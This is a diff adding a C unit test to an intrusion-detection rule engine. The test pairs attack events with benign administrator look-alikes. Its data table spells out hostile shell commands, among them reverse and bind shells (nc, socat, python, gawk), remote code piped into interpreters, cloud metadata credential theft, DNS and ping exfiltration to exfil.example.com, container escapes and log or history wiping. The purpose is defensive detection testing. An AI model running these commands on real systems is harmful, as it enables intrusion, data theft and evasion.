@@ -236,6 +236,200 @@ static void test_new_builtin_rules(void **s)
 	sigma_ruleset_free(&rs);
 }
 
+#define RID3(n) "6f1e0a01-3c2d-4b8e-9a01-000000000" n
+
+static void ev_read(const char *exe, const char *path)
+{
+	ev_write(exe, path);
+	ev.open_flags = 0; /* O_RDONLY */
+}
+
+/* One event and what one built-in rule must say about it. */
+struct rule_case {
+	enum { EXEC, READ, WRITE } kind;
+	const char *exe, *arg; /* arg: the command line (EXEC) or the path opened */
+	const char *cmd, *parent_exe, *parent_cmd; /* overrides, when not NULL */
+	uint32_t loginuid;			   /* 0 (root's login session) unless set */
+	const char *rule;
+	bool hit;
+};
+
+#define NO_LOGIN ((uint32_t)-1)
+
+/* The rules written for selftests/attack 57-99 (behaviours the first rules were not tuned to), and
+ * the precision changes that came with them: each against what it is for and the administrator's
+ * look-alike it must leave alone. */
+static const struct rule_case unseen_cases[] = {
+	/* boot, login and package-manager hooks */
+	{ WRITE, "/usr/bin/bash", "/etc/update-motd.d/99-x", NULL, NULL, NULL, 0, RID3("101"), true },
+	{ WRITE, "/usr/bin/bash", "/home/bob/.config/autostart/upd.desktop", NULL, NULL, NULL, 0, RID3("101"), true },
+	{ WRITE, "/usr/bin/dpkg", "/etc/apt/apt.conf.d/20auto-upgrades", NULL, NULL, NULL, 0, RID3("101"), false },
+	/* capabilities that are root */
+	{ EXEC, "/usr/sbin/setcap", "setcap cap_setuid,cap_setgid+ep /home/bob/py", NULL, NULL, NULL, 0, RID3("102"), true },
+	{ EXEC, "/usr/sbin/setcap", "setcap cap_net_bind_service=+ep /usr/local/bin/web", NULL, NULL, NULL, 0, RID3("102"), false },
+	/* tokens */
+	{ READ, "/usr/bin/cat", "/home/bob/.aws/credentials", NULL, NULL, NULL, 0, RID3("103"), true },
+	{ READ, "/usr/local/bin/aws", "/home/bob/.aws/credentials", NULL, NULL, NULL, 0, RID3("103"), false },
+	{ READ, "/usr/bin/python3.11", "/home/bob/.aws/credentials", "python3 - /home/bob", NULL, NULL, 0, RID3("103"), true },
+	{ READ, "/usr/bin/python3.11", "/home/bob/.aws/credentials", "python3 /srv/app/report.py --bucket logs", NULL, NULL, 0, RID3("103"), false }, /* boto3 in an application */
+	{ WRITE, "/usr/bin/bash", "/home/ci/.npmrc", NULL, NULL, NULL, 0, RID3("103"), false }, /* a CI job writing its token */
+	{ READ, "/usr/bin/python3.11", "/home/bob/.config/gcloud/credentials.db", "/usr/bin/python3 /usr/lib/google-cloud-sdk/lib/gcloud.py auth list", NULL, NULL, 0, RID3("103"), false },
+	/* account databases */
+	{ WRITE, "/usr/bin/bash", "/etc/passwd", NULL, NULL, NULL, 0, RID3("104"), true },
+	{ WRITE, "/usr/sbin/useradd", "/etc/passwd", NULL, NULL, NULL, 0, RID3("104"), false },
+	/* login records */
+	{ WRITE, "/usr/bin/python3.11", "/var/log/wtmp", NULL, NULL, NULL, 0, RID3("105"), true },
+	{ WRITE, "/usr/sbin/sshd", "/var/log/wtmp", NULL, NULL, NULL, 0, RID3("105"), false },
+	/* history */
+	{ EXEC, "/usr/bin/sed", "sed -i /curl/d /home/bob/.bash_history", NULL, NULL, NULL, 0, RID3("106"), true },
+	{ EXEC, "/usr/bin/bash", "bash -c export HISTFILE=/dev/null; id", NULL, NULL, NULL, 0, RID3("106"), true },
+	{ EXEC, "/usr/bin/bash", "bash -c export HISTSIZE=10000 HISTCONTROL=ignorespace", NULL, NULL, NULL, 0, RID3("106"), false },
+	/* argv[0] borrowed from a system program */
+	{ EXEC, "/home/bob/.cache/sd", "/usr/sbin/sshd 0.2", NULL, NULL, NULL, 0, RID3("107"), true },
+	{ EXEC, "/tmp/x", "cron -f", NULL, NULL, NULL, 0, RID3("107"), true },
+	{ EXEC, "/home/dev/pg/bin/postgres", "postgres -D /home/dev/pg/data", NULL, NULL, NULL, 0, RID3("107"), false },
+	{ EXEC, "/usr/sbin/sshd", "/usr/sbin/sshd -D", NULL, NULL, NULL, 0, RID3("107"), false },
+	{ EXEC, "/home/bob/bin/tool", "/home/bob/bin/tool --help", NULL, NULL, NULL, 0, RID3("107"), false },
+	/* container escape probes */
+	{ EXEC, "/usr/bin/curl", "curl --unix-socket /var/run/docker.sock http://localhost/containers/json", NULL, NULL, NULL, 0, RID3("108"), true },
+	{ EXEC, "/usr/bin/nsenter", "nsenter -t 1 -m -u -i -n sh", NULL, NULL, NULL, 0, RID3("108"), true },
+	{ EXEC, "/usr/bin/docker", "docker -H unix:///var/run/docker.sock ps", NULL, NULL, NULL, 0, RID3("108"), false },
+	{ EXEC, "/usr/bin/nsenter", "nsenter -t 4242 -n ss -tlnp", NULL, NULL, NULL, 0, RID3("108"), false },
+	/* ptrace injection */
+	{ EXEC, "/usr/bin/gdb", "gdb -q -p 812 -batch -ex call (int)dlopen(\"/tmp/x.so\", 2)", NULL, NULL, NULL, 0, RID3("109"), true },
+	{ EXEC, "/usr/bin/gdb", "gdb -p 812 -batch -ex bt", NULL, NULL, NULL, 0, RID3("109"), false },
+	/* code fetched and executed by an interpreter */
+	{ EXEC, "/usr/bin/python3.11", "python3 -c import urllib.request;exec(urllib.request.urlopen('http://x/s').read())", NULL, NULL, NULL, 0, RID3("110"), true },
+	{ EXEC, "/usr/bin/python3.11", "python3 -c import urllib.request; print(urllib.request.urlopen('http://x/').status)", NULL, NULL, NULL, 0, RID3("110"), false },
+	/* bash <(curl ...) */
+	{ EXEC, "/usr/bin/bash", "bash /dev/fd/63", NULL, NULL, NULL, 0, RID3("111"), true },
+	{ EXEC, "/usr/bin/bash", "bash /home/bob/fd/63.sh", NULL, NULL, NULL, 0, RID3("111"), false },
+	/* instance credentials */
+	{ EXEC, "/usr/bin/curl", "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/role", NULL, NULL, NULL, 0, RID3("112"), true },
+	{ EXEC, "/usr/bin/curl", "curl http://169.254.169.254/latest/meta-data/instance-id", NULL, NULL, NULL, 0, RID3("112"), false },
+	/* /proc/PID hidden by a mount */
+	{ EXEC, "/usr/bin/mount", "mount --bind /tmp/empty /proc/4242", NULL, NULL, NULL, 0, RID3("113"), true },
+	{ EXEC, "/usr/bin/mount", "mount -t proc proc /proc", NULL, NULL, NULL, 0, RID3("113"), false },
+	/* kernel hardening */
+	{ EXEC, "/usr/sbin/sysctl", "sysctl -w kernel.yama.ptrace_scope=0", NULL, NULL, NULL, 0, RID3("114"), true },
+	{ EXEC, "/usr/sbin/sysctl", "sysctl -w kernel.perf_event_paranoid=-1", NULL, NULL, NULL, 0, RID3("114"), false },
+	{ EXEC, "/usr/sbin/sysctl", "sysctl -w kernel.yama.ptrace_scope=1", NULL, NULL, NULL, 0, RID3("114"), false },
+	/* another process's memory */
+	{ READ, "/usr/bin/python3.11", "/proc/812/mem", NULL, NULL, NULL, 0, RID3("115"), true },
+	{ READ, "/usr/bin/gdb", "/proc/812/mem", NULL, NULL, NULL, 0, RID3("115"), false },
+	{ READ, "/usr/bin/python3.11", "/dev/mem", NULL, NULL, NULL, 0, RID3("115"), false },
+	/* a shell with no script started by an interpreter or a network tool */
+	{ EXEC, "/usr/bin/dash", "/bin/sh -i", NULL, "/usr/bin/python3.11", NULL, 0, RID3("116"), true },
+	{ EXEC, "/usr/bin/dash", "sh", NULL, "/usr/bin/socat", NULL, 0, RID3("116"), true },
+	{ EXEC, "/usr/bin/bash", "/bin/bash", NULL, "/home/dev/.vscode-server/bin/abc/node", "/home/dev/.vscode-server/bin/abc/node --type=ptyHost", 0, RID3("116"), false },
+	{ EXEC, "/usr/bin/dash", "/bin/sh -c ls -l", NULL, "/usr/bin/python3.11", NULL, 0, RID3("116"), false },
+	{ EXEC, "/usr/bin/bash", "bash /home/bob/build.sh", NULL, "/usr/bin/python3.11", NULL, 0, RID3("116"), false },
+	/* initdb's locale listing is not a web shell */
+	{ EXEC, "/usr/bin/dash", "sh -c locale -a", NULL, "/usr/lib/postgresql/15/bin/postgres", NULL, 0, RID("03"), false },
+	{ EXEC, "/usr/bin/dash", "sh -c id", NULL, "/usr/lib/postgresql/15/bin/postgres", NULL, 0, RID("03"), true },
+	/* reverse shells through pipes and socat system: */
+	{ EXEC, "/usr/bin/dash", "sh -c nc 10.0.0.1 4444 </tmp/f | /bin/sh >/tmp/f 2>&1", NULL, NULL, NULL, 0, RID("06"), true },
+	{ EXEC, "/usr/bin/dash", "sh -c /bin/sh -i <s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:443 >s", NULL, NULL, NULL, 0, RID("06"), true },
+	{ EXEC, "/usr/bin/socat", "socat tcp-connect:10.0.0.1:4444 system:sh,pty,stderr", NULL, NULL, NULL, 0, RID("06"), true },
+	{ EXEC, "/usr/bin/dash", "sh -c nc -z 10.0.0.1 22 | tee log", NULL, NULL, NULL, 0, RID("06"), false },
+	/* bind shells and gawk's network files */
+	{ EXEC, "/usr/bin/python3.11", "python3 -c import socket,os,pty;s=socket.socket();s.bind(('0.0.0.0',4444));s.listen(1);c,a=s.accept();os.dup2(c.fileno(),0);pty.spawn('/bin/sh')", NULL, NULL, NULL, 0, RID("06"), true },
+	{ EXEC, "/usr/bin/gawk", "awk BEGIN { s = \"/inet/tcp/0/10.0.0.1/4444\" }", NULL, NULL, NULL, 0, RID("06"), true },
+	{ EXEC, "/usr/bin/python3.11", "python3 -c import socket; print(socket.gethostname())", NULL, NULL, NULL, 0, RID("06"), false },
+	/* data in DNS names and ping patterns */
+	{ EXEC, "/usr/bin/dig", "dig +short cm9vdDp4OjA6MDpyb290Oi9yb290Oi9iaW4vYmFzaApkYWVt.x1.exfil.example.com TXT", NULL, NULL, NULL, 0, RID3("117"), true },
+	{ EXEC, "/usr/bin/dig", "dig +short www.debian.org AAAA", NULL, NULL, NULL, 0, RID3("117"), false },
+	{ EXEC, "/usr/bin/ping", "ping -c 1 -p 726f6f743a783a30 10.0.0.1", NULL, NULL, NULL, 0, RID3("117"), true },
+	{ EXEC, "/usr/bin/ping", "ping -c 3 10.0.0.1", NULL, NULL, NULL, 0, RID3("117"), false },
+	/* tunnels */
+	{ EXEC, "/usr/bin/ssh", "ssh -N -f -R 9001:127.0.0.1:22 tunnel@203.0.113.9", NULL, NULL, NULL, 0, RID3("118"), true },
+	{ EXEC, "/usr/bin/ssh", "ssh -L 5432:db.internal:5432 admin@bastion", NULL, NULL, NULL, 0, RID3("118"), false },
+	{ EXEC, "/usr/bin/ssh", "ssh -D 1080 admin@bastion", NULL, NULL, NULL, 0, RID3("118"), false },
+	{ EXEC, "/home/bob/chisel", "chisel client 203.0.113.9:8080 R:socks", NULL, NULL, NULL, 0, RID3("118"), true },
+	/* downloads piped into interpreters */
+	{ EXEC, "/usr/bin/dash", "sh -c curl -fsSL http://x/p.py | python3", NULL, NULL, NULL, 0, RID3("119"), true },
+	{ EXEC, "/usr/bin/dash", "sh -c curl -s http://x/data.json | python3 -m json.tool", NULL, NULL, NULL, 0, RID3("119"), false },
+	/* a container given the host's root */
+	{ EXEC, "/usr/bin/docker", "docker run --rm -it -v /:/host alpine chroot /host sh", NULL, NULL, NULL, 0, RID3("108"), true },
+	{ EXEC, "/usr/bin/docker", "docker run --rm -v /srv/data:/data alpine ls /data", NULL, NULL, NULL, 0, RID3("108"), false },
+	/* ~/.ssh/rc */
+	{ WRITE, "/usr/bin/bash", "/home/bob/.ssh/rc", NULL, NULL, NULL, 0, RID3("101"), true },
+	/* a backup of a whole tree reads shadow and keys among everything else; naming them is collection */
+	{ READ, "/usr/bin/tar", "/etc/shadow", "tar -czf /srv/backup/etc.tgz /etc", NULL, NULL, 0, RID("07"), false },
+	{ READ, "/usr/bin/tar", "/etc/shadow", "tar -czf /tmp/x.tgz /etc/passwd /etc/shadow", NULL, NULL, 0, RID("07"), true },
+	{ READ, "/usr/bin/rsync", "/home/bob/.ssh/id_ed25519", "rsync -a /home/ /srv/backup/home/", NULL, NULL, 0, RID("08"), false },
+	/* logs: housekeeping in a login session, evidence otherwise */
+	{ EXEC, "/usr/bin/truncate", "truncate -s 0 /var/log/app/app.log", NULL, NULL, NULL, 1000, RID("17"), false },
+	{ EXEC, "/usr/bin/truncate", "truncate -s 0 /var/log/auth.log", NULL, NULL, NULL, 1000, RID("17"), true },
+	{ EXEC, "/usr/bin/truncate", "truncate -s 0 /var/log/app/app.log", NULL, NULL, NULL, NO_LOGIN, RID("17"), true },
+	{ EXEC, "/usr/bin/journalctl", "journalctl --vacuum-time=2d", NULL, NULL, NULL, 0, RID("17"), false },
+	{ EXEC, "/usr/bin/journalctl", "journalctl --vacuum-time=1s", NULL, NULL, NULL, 0, RID("17"), true },
+	/* certificate housekeeping in a login session */
+	{ EXEC, "/usr/bin/find", "find /etc -name *.pem -mtime -30", NULL, NULL, NULL, 1000, RID("32"), false },
+	{ EXEC, "/usr/bin/find", "find / -name id_rsa", NULL, NULL, NULL, 1000, RID("32"), true },
+	/* sshd, logging and loader configuration: outside a login session */
+	{ WRITE, "/usr/bin/bash", "/etc/ssh/sshd_config.d/00-keys.conf", NULL, NULL, NULL, NO_LOGIN, RID3("120"), true },
+	{ WRITE, "/usr/bin/vim.basic", "/etc/ssh/sshd_config", NULL, NULL, NULL, 1000, RID3("120"), false },
+	{ WRITE, "/usr/bin/bash", "/etc/ld.so.conf.d/00-local.conf", NULL, NULL, NULL, NO_LOGIN, RID3("120"), true },
+	/* a system tool's name earlier in PATH */
+	{ WRITE, "/usr/bin/cp", "/usr/local/bin/ps", NULL, NULL, NULL, 0, RID3("121"), true },
+	{ WRITE, "/usr/bin/cp", "/usr/local/bin/mytool", NULL, NULL, NULL, 0, RID3("121"), false },
+	{ WRITE, "/usr/bin/cp", "/usr/bin/ps", NULL, NULL, NULL, 0, RID3("121"), false },
+	/* decoded payloads evaluated */
+	{ EXEC, "/usr/bin/bash", "bash -c eval \"$(echo Y2F0 | base64 -d)\"", NULL, NULL, NULL, 0, RID3("122"), true },
+	{ EXEC, "/usr/bin/bash", "bash -c echo c2VjcmV0 | base64 -d > /tmp/token", NULL, NULL, NULL, 0, RID3("122"), false },
+	/* histories searched for passwords */
+	{ EXEC, "/usr/bin/grep", "grep -iE pass|-p[^ ] /home/alice/.bash_history /home/bob/.bash_history", NULL, NULL, NULL, 0, RID3("123"), true },
+	{ EXEC, "/usr/bin/grep", "grep ssh /home/alice/.bash_history", NULL, NULL, NULL, 0, RID3("123"), false },
+	/* relays */
+	{ EXEC, "/usr/bin/socat", "socat TCP-LISTEN:8443,fork TCP:10.0.0.5:22", NULL, NULL, NULL, 0, RID3("118"), true },
+	{ EXEC, "/usr/bin/socat", "socat - UNIX-CONNECT:/run/app.sock", NULL, NULL, NULL, 0, RID3("118"), false },
+	/* accounts: an administrator's login session may create ordinary accounts; backdoor shapes and
+	 * anything outside a login session alert */
+	{ EXEC, "/usr/sbin/useradd", "useradd -m -s /bin/bash carol", NULL, NULL, NULL, 1000, RID("35"), false },
+	{ EXEC, "/usr/sbin/useradd", "useradd -m -s /bin/bash carol", NULL, NULL, NULL, NO_LOGIN, RID("35"), true },
+	{ EXEC, "/usr/sbin/useradd", "useradd -r -s /bin/bash svc", NULL, NULL, NULL, 1000, RID("35"), true },
+	{ EXEC, "/usr/sbin/useradd", "useradd -m -d /root -s /bin/bash r2", NULL, NULL, NULL, 1000, RID("35"), true },
+	/* cron: crontab(1) in a login session is how users edit their table */
+	{ WRITE, "/usr/bin/crontab", "/var/spool/cron/crontabs/carol", NULL, NULL, NULL, 1000, RID("09"), false },
+	{ WRITE, "/usr/bin/crontab", "/var/spool/cron/crontabs/carol", NULL, NULL, NULL, NO_LOGIN, RID("09"), true },
+	{ WRITE, "/usr/bin/bash", "/var/spool/cron/crontabs/root", NULL, NULL, NULL, 1000, RID("09"), true },
+};
+
+static void test_unseen_behaviour_rules(void **s)
+{
+	(void)s;
+	struct sigma_ruleset rs;
+	load_builtin(&rs);
+	struct matcher *m = matcher_new(&rs);
+	assert_non_null(m);
+	int failed = 0;
+	for (size_t i = 0; i < sizeof(unseen_cases) / sizeof(unseen_cases[0]); i++) {
+		const struct rule_case *c = &unseen_cases[i];
+		if (c->kind == EXEC)
+			ev_exec(c->exe, c->arg);
+		else if (c->kind == READ)
+			ev_read(c->exe, c->arg);
+		else
+			ev_write(c->exe, c->arg);
+		if (c->cmd)
+			ev.command_line = c->cmd;
+		if (c->parent_exe)
+			ev.parent_executable = c->parent_exe;
+		if (c->parent_cmd)
+			ev.parent_command_line = c->parent_cmd;
+		ev.loginuid = c->loginuid;
+		if (hits(m, c->rule) != c->hit) {
+			print_error("case %zu: %s %s: rule %s should %s\n", i, c->exe, c->arg, c->rule,
+				    c->hit ? "match" : "not match");
+			failed++;
+		}
+	}
+	assert_int_equal(failed, 0);
+	matcher_free(m);
+	sigma_ruleset_free(&rs);
+}
+
 static void test_levels_and_folders(void **s)
 {
 	(void)s;
@@ -520,7 +714,7 @@ static void test_signals_stored_apart(void **s)
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
-		cmocka_unit_test(test_new_builtin_rules),	    cmocka_unit_test(test_levels_and_folders),
+		cmocka_unit_test(test_new_builtin_rules), cmocka_unit_test(test_unseen_behaviour_rules),	    cmocka_unit_test(test_levels_and_folders),
 		cmocka_unit_test(test_shipped_rules_load),	    cmocka_unit_test(test_overrides_file),
 		cmocka_unit_test(test_suppressions_live_and_kept), cmocka_unit_test(test_signals_stored_apart),
 	};
